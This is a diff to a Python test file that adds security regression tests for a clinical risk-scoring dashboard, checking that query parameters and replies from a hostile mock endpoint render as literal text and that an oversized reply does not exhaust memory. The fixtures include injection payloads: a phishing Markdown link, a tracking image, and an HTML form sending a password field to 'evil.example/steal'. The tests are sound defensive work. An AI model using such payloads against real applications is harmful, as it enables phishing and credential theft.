@@ -9,24 +9,30 @@ from __future__ import annotations
 
 import contextlib
 import hashlib
+import json
 import os
+import re
 import socket
 import stat
 import subprocess
 import sys
 import threading
 import time
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 
 import numpy as np
 import psutil
 import pytest
 import requests
+from streamlit.testing.v1 import AppTest
 
+from dashboard.client import EndpointClient, EndpointConfig, EndpointContractError
 from deploy.local_endpoint import LocalEndpoint, serve
 from model import artifact, datacollect, exit_codes, schema, score
 from model.lookup import MAX_RECORDS, example_record
+from tests.app_pages import app_test, open_page
 from tests.conftest import REPO_ROOT
 
 
@@ -169,9 +175,10 @@ def test_collected_files_are_0600_in_a_0700_folder_also_after_rotation(tmp_path:
 class PeakRss:
     """Samples the summed RSS of processes (and their children) every few ms; `growth_mb` is peak minus start."""
 
-    def __init__(self, *pids: int, every_s: float = 0.002) -> None:
+    def __init__(self, *pids: int, every_s: float = 0.002, children: bool = True) -> None:
         self._procs = [psutil.Process(pid) for pid in pids]
-        self._procs += [c for p in list(self._procs) for c in p.children(recursive=True)]
+        if children:
+            self._procs += [c for p in list(self._procs) for c in p.children(recursive=True)]
         self._every_s = every_s
         self._stop = threading.Event()
         self.start_mb = self.peak_mb = self._rss_mb()
@@ -254,3 +261,135 @@ def test_a_request_just_over_the_record_limit_still_gets_the_record_message(fres
         fresh_endpoint.scoring_url, json={"data": [example_record()] * (MAX_RECORDS + 1)}, timeout=60
     )
     assert response.status_code == 400 and f"at most {MAX_RECORDS}" in response.json()["error"]
+
+
+# --- finding 6: query parameters never become Markdown ---------------------------------------------
+
+PHISH_LINK = "[click to re-authenticate](http://127.0.0.1:5101/phish)"
+TRACKING_IMAGE = "![](//127.1:5101/t1)"
+HOSTILE_MARKERS = ("127.0.0.1:5101", "127.1:5101", "evil.example", "alarm", "bold")
+
+
+def _live_markup(text: str) -> bool:
+    """True if `text` holds markup once its backslash escapes are removed: '[' (a link or an image), '<' (HTML)."""
+    bare = re.sub(r"\\.", "", text, flags=re.DOTALL)
+    return "[" in bare or "<" in bare
+
+
+def _shown(at: AppTest) -> list[str]:
+    """The Markdown source of every text element on the page (what the browser renders)."""
+    kinds = ("error", "warning", "info", "success", "markdown", "caption", "subheader", "title")
+    return [str(getattr(e, "value", "")) for kind in kinds for e in at.get(kind)]
+
+
+def test_query_parameters_reach_the_banner_as_literal_text(dashboard_env: str) -> None:
+    at = app_test()
+    at.query_params[f"icu.{PHISH_LINK}"] = "1"
+    at.query_params["threshold"] = TRACKING_IMAGE
+    at.run()
+    assert not at.exception, [e.value for e in at.exception]
+    warnings = [w.value for w in at.warning]
+    assert any("threshold" in w and "not a number" in w for w in warnings), warnings
+    assert any("not an ICU input" in w and "click to re" in w for w in warnings), warnings
+    quoting = [text for text in _shown(at) if any(m in text.replace("\\", "") for m in HOSTILE_MARKERS)]
+    assert quoting and not any(_live_markup(text) for text in quoting), quoting
+
+
+# --- finding 7: a hostile endpoint injects nothing and cannot fill the dashboard's memory ----------
+
+EVIL_FORM = "<form action=//evil.example/steal><input type=password name=pw></form>"
+EVIL_PERIOD = f"first wave {PHISH_LINK} {TRACKING_IMAGE} <b>bold</b> :red[alarm]"
+
+
+def _hostile_handler(top: dict, result: dict, stream_bytes: int = 0) -> type[BaseHTTPRequestHandler]:
+    """An endpoint that answers every record with `result` under `top`, or streams `stream_bytes` of JSON."""
+
+    class Hostile(BaseHTTPRequestHandler):
+        protocol_version = "HTTP/1.0"  # the body ends when the connection closes: no Content-Length to check
+
+        def do_GET(self) -> None:
+            self._send(b"Healthy")
+
+        def do_POST(self) -> None:
+            payload = json.loads(self.rfile.read(int(self.headers.get("Content-Length") or 0)) or b"{}")
+            answer = {**top, "results": [dict(result) for _ in payload.get("data", [])]}
+            self._send(json.dumps(answer).encode())
+
+        def _send(self, body: bytes) -> None:
+            self.send_response(200)
+            self.send_header("Content-Type", "application/json")
+            self.end_headers()
+            with contextlib.suppress(OSError):  # the client hangs up once it has read enough
+                if stream_bytes:
+                    self.wfile.write(b'{"model_version": "v", "results": [')
+                    chunk = b"[]," * (1 << 20)
+                    for _ in range(stream_bytes // len(chunk)):
+                        self.wfile.write(chunk)
+                else:
+                    self.wfile.write(body)
+
+        def log_message(self, *args: object) -> None:
+            pass
+
+    return Hostile
+
+
+@contextlib.contextmanager
+def hostile_endpoint(handler: type[BaseHTTPRequestHandler]) -> Iterator[str]:
+    """A hostile or broken endpoint on loopback (not the project's: an adversary); stopped on exit."""
+    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
+    server.daemon_threads = True
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{server.server_address[1]}/score"
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+@pytest.fixture
+def hostile_env(monkeypatch: pytest.MonkeyPatch, model_dir: Path) -> Callable[[str], None]:
+    """Point the app at a given endpoint URL and the session's model; no key or auth from the shell."""
+    for name in ("RISK_ENDPOINT_KEY", "RISK_ENDPOINT_AUTH", "RISK_ENDPOINT_DEPLOYMENT", "RISK_ENDPOINT_TIMEOUT"):
+        monkeypatch.delenv(name, raising=False)
+    monkeypatch.setenv("RISK_MODEL_DIR", str(model_dir))
+    return lambda url: monkeypatch.setenv("RISK_ENDPOINT_URL", url)
+
+
+GOOD_RESULT = {"probability": 0.5, "risk_band": "very high", "interval": [0.4, 0.6], "model": "intake"}
+
+
+@pytest.mark.parametrize(
+    ("top", "result"),
+    [
+        pytest.param({"model_version": EVIL_FORM}, GOOD_RESULT, id="model_version"),
+        pytest.param({"model_version": "v1"}, {**GOOD_RESULT, "risk_band": EVIL_FORM}, id="risk_band"),
+        pytest.param({"model_version": "v1", "data_period": EVIL_PERIOD}, GOOD_RESULT, id="data_period"),
+    ],
+)
+def test_an_endpoints_words_never_become_markup(hostile_env: Callable[[str], None], top: dict, result: dict) -> None:
+    with hostile_endpoint(_hostile_handler(top, result)) as url:
+        hostile_env(url)
+        at = open_page("patient_risk.py")
+        at.button(key="intake.score").click().run()
+    assert not at.exception, [e.value for e in at.exception]
+    for html in at.html:
+        assert "<form" not in html.value and "<input" not in html.value, html.value
+    quoting = [text for text in _shown(at) if any(m in text.replace("\\", "") for m in HOSTILE_MARKERS)]
+    assert not any(_live_markup(text) for text in quoting), quoting
+    if "data_period" in top:  # a valid answer: the period is shown, as text
+        assert any("first wave" in i.value for i in at.info), [i.value for i in at.info]
+    else:  # a version or band outside the contract is refused, and said so
+        assert any("scoring contract" in text for text in _shown(at)), _shown(at)
+
+
+def test_a_huge_reply_is_not_read_and_the_client_stays_small(hostile_env: Callable[[str], None]) -> None:
+    with hostile_endpoint(_hostile_handler({}, {}, stream_bytes=512 << 20)) as url:
+        client = EndpointClient(EndpointConfig(scoring_url=url, timeout_s=10.0))
+        with PeakRss(os.getpid(), children=False) as rss:
+            health = client.health()
+            with pytest.raises(EndpointContractError, match="more than"):
+                client.score([example_record()] * 100)
+    assert not health.ok and "more than" in health.detail, health.detail
+    assert rss.growth_mb < 50, f"the client grew by {rss.growth_mb:.0f} MB reading a hostile reply"
